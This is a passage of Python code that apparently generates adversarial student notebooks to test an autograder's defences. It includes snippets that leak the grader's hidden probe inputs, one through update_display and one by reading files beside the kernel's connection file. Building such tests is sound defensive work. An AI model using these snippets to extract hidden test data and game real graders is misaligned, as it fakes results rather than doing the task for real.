_quiet_affine_apply = affine_apply


def affine_apply(M, points):
    \"\"\"The reference, which also writes its inputs into the answer cell's output.\"\"\"
    _update_display("DISPLAY-LEAK " + repr(points.tolist()), display_id="leak")
    return _quiet_affine_apply(M, points)
"""


@attack(
    "display_leak",
    "secrets",
    15,
    GRADED,
    "correct code that, when called, rewrites an earlier cell's output with its inputs "
    "(update_display): the probes' inputs must not reach the autograded notebook",
)
def _display_leak(ctx: Context) -> str:
    answers = reference_answers(ctx.solution)
    return correct(ctx, affine=answers[answer_id("affine")] + "\n\n" + DISPLAY_LEAK)


#: Looks for the probes' inputs from the notebook's first answer cell, beside the kernel's
#: connection file, and prints whatever it finds: they must not exist yet.
EARLY_INPUTS = """

import os as _os

_here = _os.path.dirname(get_ipython().config["IPKernelApp"]["connection_file"])
_seen = []
for _root, _dirs, _names in _os.walk(_here):
    for _name in _names:
        if _name.endswith((".json", ".npy")) and "probes-in" in _root:
            with open(_os.path.join(_root, _name), "rb") as _handle:
                _seen.append(_handle.read()[:200])
print("PROBE-INPUTS-SEEN", len(_seen), _seen)
"""


@attack(
    "early_inputs",
    "secrets",
    15,
    GRADED,
    "correct code whose first answer cell reads the probes' input folder beside the kernel's "
    "connection file and prints what it finds: the inputs exist only once the probes run",
)
def _early_inputs(ctx: Context) -> str:
    answers = reference_answers(ctx.solution)
    return correct(ctx, matmul=answers[answer_id("matmul")] + "\n\n" + EARLY_INPUTS)


# ---- fairness ------------------------------------------------------------------------------------

NOISY = '''

import sys as _sys
import warnings as _warnings

from tqdm import tqdm as _tqdm

_quiet___NAME__ = __NAME__


def __NAME__(*args, **kwargs):
    """The reference, with a warning, a line on stderr and a progress bar."""
    _warnings.warn("__NAME__: computing", RuntimeWarning, stacklevel=2)
    print("__NAME__ starts", file=_sys.stderr)
    for _ in _tqdm(range(3), desc="__NAME__"):
        pass
    return _quiet___NAME__(*args, **kwargs)
'''


@attack(
    "noisy_correct",
    "fairness",
    15,
    GRADED,
    "correct code that warns, writes to stderr and shows a tqdm progress bar in every function",
)
def _noisy_correct(ctx: Context) -> str:
    answers = reference_answers(ctx.solution)
    code = {
        short: answers[answer_id(short)] + NOISY.replace("__NAME__", function)
        for short, (function, _) in FUNCTIONS.items()
    }
    return text(notebook(ctx, code=code))


def honest(ctx: Context) -> str:
    """The honest student's notebook: the reference answers, and private notes."""
    return correct(ctx, f"# {ctx.honest_marker}\n")


# ---- the table in README.md --------------------------------------------------------------------


def readme_table() -> str:
    """The Markdown table of every attack, as README.md holds it."""
    rows = [
        "| attack | category | what it does | visible tests it fools | expected score "
        "| expected status |",
        "|---|---|---|---|---|---|",
    ]
    for a in ATTACKS:
        status = " or ".join(f"`{s}`" for s in a.statuses)
        score = f"{a.score:g} / {TOTAL:g}"
        if a.bug:
            score += " (xfail: grader bug)"
        fools = ", ".join(FUNCTIONS[f][0] for f in a.fools) if a.fools else ""
        rows.append(
            f"| `{a.name}` | {a.category} | {a.description} | {fools} | {score} | {status} |"
        )
    return "\n".join(rows) + "\n"


def probes_docstring(path: Path) -> str:
    """The first line of a probes file's docstring."""
    doc = ast.get_docstring(ast.parse(path.read_text())) or ""
    return doc.splitlines()[0]


def hidden_line(solution: NotebookNode, probes: Path) -> str:
    """A line only the hidden checks hold (the probes file, never released), long enough to be
    unmistakable: not a line the notebook also has."""
    visible = "\n".join(c.source for c in solution.cells)
    return next(
        line.strip()
        for line in probes.read_text().splitlines()
        if len(line.strip()) >= 24 and "yield call(" in line and line.strip() not in visible
    )


def probe_names(path: Path) -> tuple[str, ...]:
    from autograder.probes import load

    return tuple(p.name for p in load(path))


def write(ctx: Context, folder: Path, attacks: list[Attack]) -> None:
    """Write each attack as student ``attack.name`` under ``folder`` (nbgrader's layout)."""
    for a in attacks:
        target = folder / a.name / ASSIGNMENT
        target.mkdir(parents=True, exist_ok=True)
        data = a.build(ctx)
        (target / a.filename).write_bytes(data.encode() if isinstance(data, str) else data)
        for name, content in (a.files(ctx) if a.files else {}).items():
            (target / name).parent.mkdir(parents=True, exist_ok=True)
            (target / name).write_bytes(content)


def by_name() -> dict[str, Attack]:
    found = {a.name: a for a in ATTACKS}
    assert len(found) == len(ATTACKS), "two attacks share a name"
    return found


if __name__ == "__main__":  # print the README table
    print(readme_table(), end="")
    print(json.dumps(sorted(by_name())))
